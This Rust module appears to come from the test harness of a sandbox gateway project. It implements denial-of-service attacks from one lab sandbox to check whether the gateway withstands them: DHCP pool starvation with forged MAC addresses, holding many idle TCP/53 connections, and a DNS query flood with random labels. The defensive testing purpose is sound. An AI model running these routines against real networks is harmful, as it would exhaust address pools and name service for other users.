//! Attacks on the gateway services' capacity, from one lab sandbox: DHCP
//! pool starvation with forged client addresses, TCP/53 connection
//! exhaustion, and a DNS query flood. The victim is a sibling that then
//! asks for a lease or a name.

use std::collections::BTreeSet;
use std::io;
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use super::l2::Attacker;
use super::{AttackError, Outcome};
use crate::raw::dhcp::{self, ClientMessage, MessageType};
use crate::raw::frame::Mac;
use corral_egress::netns::Netns;
use corral_gateway::wire;

/// A forged client hardware address: locally administered, `n` in the
/// last three bytes, a prefix no real sandbox uses.
pub fn forged_mac(n: u32) -> Mac {
    let b = n.to_be_bytes();
    [0x0a, 0xba, 0xd0, b[1], b[2], b[3]]
}

/// Pool starvation: `count` forged clients each DISCOVER, then REQUEST
/// what they were offered, all from the attacker's port. Returns how many
/// forged leases the server acknowledged (landed when any).
pub fn starve_pool(
    a: &Attacker<'_>,
    count: u32,
    window: Duration,
) -> Result<(Outcome, usize), AttackError> {
    let me = a.mac();
    let xid = |n: u32| 0x57a7_0000u32.wrapping_add(n);
    for n in 0..count {
        a.sock
            .send(&ClientMessage::discover(xid(n), forged_mac(n)).frame(me)?)?;
    }
    let offers = collect(a, window, MessageType::Offer)?;
    for (x, (chaddr, yiaddr, server)) in &offers {
        a.sock
            .send(&ClientMessage::request(*x, *chaddr, *yiaddr, *server).frame(me)?)?;
    }
    let acks = collect(a, window, MessageType::Ack)?;
    let leased: BTreeSet<Ipv4Addr> = acks.values().map(|(_, ip, _)| *ip).collect();
    let n = leased.len();
    let detail = format!(
        "{count} forged clients: {} offers, {} acknowledged leases",
        offers.len(),
        n
    );
    let outcome = if n > 0 {
        Outcome::landed(detail)
    } else {
        Outcome::held(detail)
    };
    Ok((outcome, n))
}

type Replies = std::collections::BTreeMap<u32, (Mac, Ipv4Addr, Ipv4Addr)>;

/// Every reply of `kind` to a forged client seen within `window` (ending
/// early once the line has been quiet for a fifth of it).
fn collect(a: &Attacker<'_>, window: Duration, kind: MessageType) -> io::Result<Replies> {
    let mut out = Replies::new();
    let deadline = Instant::now() + window;
    let quiet = window / 5;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Ok(out);
        }
        let Some(r) = a.sock.recv(left.min(quiet))? else {
            if !out.is_empty() {
                return Ok(out);
            }
            continue;
        };
        if let Some(reply) = dhcp::parse_reply(&r.frame)
            && reply.kind == kind
            && reply.chaddr[..3] == forged_mac(0)[..3]
        {
            let server = reply.server.unwrap_or(reply.from);
            out.insert(reply.xid, (reply.chaddr, reply.yiaddr, server));
        }
    }
}

/// Idle TCP connections to `server` port 53 opened from `ns`: the
/// attacker holds them open. Returns the open streams (as many as the
/// server and the rules accepted within `timeout` each).
pub fn hold_tcp_dns(
    ns: &Netns,
    server: SocketAddr,
    count: usize,
    timeout: Duration,
) -> io::Result<Vec<TcpStream>> {
    ns.run(|| {
        let mut held = Vec::new();
        for _ in 0..count {
            match TcpStream::connect_timeout(&server, timeout) {
                Ok(s) => held.push(s),
                Err(_) => continue,
            }
        }
        held
    })
}

/// A DNS query flood from `ns` to `server`: one name (or a fresh random
/// label under it per query when `random_labels`), as fast as one socket
/// sends, until dropped. Counts what it sent.
#[derive(Debug)]
pub struct DnsFlood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl DnsFlood {
    /// Starts flooding.
    pub fn start(
        ns: &Netns,
        server: SocketAddr,
        name: &str,
        random_labels: bool,
    ) -> io::Result<Self> {
        let sock = ns.run(|| UdpSocket::bind(SocketAddr::from(([0, 0, 0, 0], 0))))??;
        sock.connect(server)?;
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let name = name.to_owned();
        let thread = {
            let (stop, sent) = (Arc::clone(&stop), Arc::clone(&sent));
            std::thread::Builder::new()
                .name("dns-flood".into())
                .spawn(move || {
                    let mut n: u32 = 0;
                    let mut buf = [0u8; 512];
                    sock.set_nonblocking(true).ok();
                    while !stop.load(Ordering::Relaxed) {
                        n = n.wrapping_add(1);
                        let qname = if random_labels {
                            format!("r{n:08x}.{name}")
                        } else {
                            name.clone()
                        };
                        if let Ok(q) = wire::encode_query(n as u16, &qname, wire::TYPE_A)
                            && sock.send(&q).is_ok()
                        {
                            sent.fetch_add(1, Ordering::Relaxed);
                        }
                        // Drain answers so the socket never fills.
                        while sock.recv(&mut buf).is_ok() {}
                        if n.is_multiple_of(64) {
                            std::thread::yield_now();
                        }
                    }
                })?
        };
        Ok(Self {
            stop,
            sent,
            thread: Some(thread),
        })
    }

    /// Queries sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for DnsFlood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}
